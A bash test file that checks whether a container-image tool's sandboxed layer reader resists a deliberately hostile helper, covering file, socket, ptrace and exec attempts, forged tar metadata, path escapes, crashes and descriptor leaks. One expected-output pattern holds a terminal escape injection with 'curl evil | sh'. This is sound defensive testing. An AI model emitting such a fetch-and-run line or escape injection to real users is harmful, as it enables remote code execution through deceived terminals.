# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
# as: root user
# The process that reads a layer, in the hands of the layer: what it can do, and what becomes of what it says.
# tests/tools/evil_reader.c runs in its place, confined as it is, and does what its name says.

deed() { # NAME: a pull whose reader does that, into pull.err
	mkdir -p deeds
	ln -sf "$(command -v evil-reader)" "deeds/$1"
	got=0
	SNAP_READER=$PWD/deeds/$1 timeout 120 snap pull --name deed:1 oci:lay:latest >pull.out 2>pull.err || got=$?
}
fails() { # NAME REGEX: one line, and nothing left
	deed "$1"
	is "$got" 1 "exit status of '$1' ($(head -c 300 pull.err))"
	is "$(wc -l <pull.err)" 1 "lines on stderr of '$1': $(head -c 500 pull.err)"
	grep -qE -- "$2" pull.err || fail "'$1': '$(cat pull.err)' does not match '$2'"
	is "$(cd "$SNAP_ROOT" && find blobs layers chains tmp -mindepth 1 ! -path '*/sha256' ! -path '*/sha512')" '' "what '$1' leaves"
}
layout() { python3 "$LIB/mklayer.py" lay 'Blob(tar([F("a", "hello"), D("d")]), tar([F("a", "hello"), D("d")]), PLAIN)' 2>make.err || fail "$(cat make.err)"; }

test_taken_over() {
	layout
	fails open 'evil: open: EPERM'
	fails create 'evil: create: EPERM'
	[ ! -e evil.made ] || fail 'it made a file'
	fails socket 'stopped when it tried what it may not'
	fails kill 'stopped when it tried what it may not'
	fails ptrace 'stopped when it tried what it may not'
	fails exec 'stopped when it tried what it may not'
	fails fork 'stopped when it tried what it may not'
	fails shrink 'stopped when it tried what it may not'
	fails stdout 'stopped when it tried what it may not'
	fails code 'evil: code: EPERM'
	fails input 'evil: input: EACCES'
	# of all that who started snap had open, it has what it was given and nothing else
	exec 9</etc/passwd
	fails fds 'evil:  0 1 2 3 4 5$'
	exec 9<&-
	fails nothing 'evil: no such deed'
	# the same deeds are possible without: so these tests can fail
	export SNAP_SANDBOX=off
	fails open 'evil: open: done'
	fails socket 'evil: socket: done'
	fails code 'evil: code: done'
	fails input 'evil: input: EACCES'
	fails shrink 'evil: shrink: EPERM'
}
test_lies() {
	layout
	fails lie-bytes 'diff id does not match'
	fails lie-beyond 'makes no sense'
	fails lie-uid 'makes no sense'
	fails lie-slots 'makes no sense|too early'
	fails lie-length 'makes no sense'
	fails lie-endless 'makes no sense'
	fails garbage 'makes no sense'
	fails terminal 'evil: \?\[2J\?\]0;owned\? run curl evil \| sh$'
	# a member that a tar could have had: the rules of layers are applied to it
	deed lie-xattr
	is "$got" 0 "exit status ($(cat pull.err))"
	grep -q "trusted.overlay.opaque' dropped" pull.err || fail "$(cat pull.err)"
	snap rmi deed:1
	snap --quiet gc
	deed lie-path
	is "$got" 0 "exit status ($(cat pull.err))"
	snap --quiet prepare k deed:1 >/dev/null
	mkdir m
	snap --quiet mount k m --engine fuse
	is "$(cd m && find . | LC_ALL=C sort | xargs)" '. ./lie' 'where it came to be'
	snap umount m
	[ ! -e lie ] || fail 'outside'
}
test_crash_and_memory() {
	layout
	fails crash 'the layer.s reader died: SIGSEGV'
	fails leave 'the layer.s reader ended too early'
	fails memory 'evil: memory: ended'
	# a blob that is not what it should be is what is told, whatever happened to its reader
	python3 "$LIB/mklayer.py" lay --manifest 'm["layers"][0]["digest"] = digest(b"no")' \
		--files 'files[blob_path(digest(b"no"))] = layers[0].data' '[F("a", "hello")]'
	fails crash 'digest does not match'
}
reader_of() { # PID: of its child, once it has one
	local pid
	pid=$(pgrep -P "$1") && echo "$pid" >reader.pid
}
gone() { ! kill -0 "$1" 2>/dev/null || grep -q '^State:[[:space:]]Z' "/proc/$1/status" 2>/dev/null; }
test_dies_with_parent() {
	local pid
	layout
	mkdir -p deeds
	ln -sf "$(command -v evil-reader)" deeds/hang
	SNAP_READER=$PWD/deeds/hang snap pull oci:lay:latest >pull.out 2>pull.err &
	pid=$!
	within 20 reader_of "$pid"
	kill -9 "$pid"
	wait "$pid" 2>/dev/null || :
	within 20 gone "$(cat reader.pid)"
	snap --quiet gc
	is "$(cd "$SNAP_ROOT" && find blobs layers tmp -mindepth 1 ! -path '*/sha256' ! -path '*/sha512')" '' 'what is left'
	snap --quiet pull oci:lay:latest --name real:1 >/dev/null
	snap --quiet fsck
}
test_flag() {
	layout
	SNAP_READER=/nonexistent refused 1 "start '/nonexistent': No such file" snap pull oci:lay:latest
	snap --json doctor >doctor.json || :
	is "$(jq -r '.checks[] | select(.check == "sandbox") | .state' doctor.json)" ok 'doctor'
	jq -e '.checks[] | select(.check == "sandbox") | .detail | test("seccomp")' doctor.json >/dev/null || fail "$(cat doctor.json)"
	snap --json --no-sandbox doctor >doctor.json || :
	is "$(jq -r '.checks[] | select(.check == "sandbox") | .state' doctor.json)" missing 'doctor without'
	snap --quiet --no-sandbox pull oci:lay:latest --name real:1 >/dev/null
	snap --quiet fsck
	SNAP_SANDBOX=maybe refused 2 'SNAP_SANDBOX is on or off' snap images
	# and the one thing that is refused without the flag
	export SNAP_ROOT=$PWD/other
	no-seccomp snap pull oci:lay:latest --name real:2 >out 2>err && fail 'pulled without a sandbox'
	grep -q 'cannot be confined: seccomp: .*--no-sandbox' err || fail "$(cat err)"
	no-seccomp snap --quiet --no-sandbox pull oci:lay:latest --name real:2 >/dev/null
}
